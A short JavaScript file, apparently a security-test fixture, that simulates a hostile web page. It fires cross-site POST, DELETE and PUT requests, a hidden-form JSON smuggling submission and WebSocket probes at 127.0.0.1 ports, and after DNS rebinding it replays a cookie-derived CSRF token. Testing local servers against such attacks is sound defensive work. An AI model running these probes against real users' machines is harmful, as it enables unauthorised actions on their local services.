// What a stranger's page does; read as text and run in the browser.

/** Runs in the page: cross-site forms, fetches without CORS, sockets. */
async function attackFromPage({ ports, paths, bodies }) {
  const ended = []
  for (const port of ports)
    for (const path of paths) {
      const url = `http://127.0.0.1:${port}${path}`
      for (const body of bodies)
        for (const type of ['text/plain', 'application/x-www-form-urlencoded'])
          ended.push(
            fetch(url, {
              method: 'POST',
              mode: 'no-cors',
              credentials: 'include',
              headers: { 'content-type': type },
              body,
            }).catch(() => undefined),
          )
      for (const method of ['DELETE', 'PATCH', 'PUT'])
        ended.push(
          fetch(url, {
            method,
            credentials: 'include',
            headers: { 'content-type': 'application/json' },
          }).catch(() => undefined),
        )
      const frame = Object.assign(document.createElement('iframe'), { name: `f${Math.random()}` })
      const form = Object.assign(document.createElement('form'), {
        action: url,
        method: 'post',
        enctype: 'text/plain',
        target: frame.name,
      })
      form.append(Object.assign(document.createElement('input'), { name: '{"a":"', value: '"}' }))
      document.body.append(frame, form)
      form.submit()
      ended.push(
        new Promise((resolve) => {
          const socket = new WebSocket(url.replace('http', 'ws'))
          socket.onopen = socket.onerror = socket.onclose = resolve
        }),
      )
    }
  await Promise.race([Promise.all(ended), new Promise((resolve) => setTimeout(resolve, 20_000))])
}

/** Runs in a page whose name was rebound: to the browser, what it asks is its own server. */
async function attackRebound({ paths, bodies }) {
  const through = []
  for (const path of paths)
    for (const body of bodies)
      for (const method of ['POST', 'DELETE', 'PUT']) {
        const headers = {
          'content-type': 'application/json',
          'x-csrf-token': document.cookie.replace(/.*_csrf=/, ''),
        }
        const answer = await fetch(path, { method, headers, body }).catch(() => undefined)
        if (answer?.ok) through.push(`${method} ${location.host}${path}`)
      }
  return through
}

Object.assign(globalThis, { attackFromPage, attackRebound })
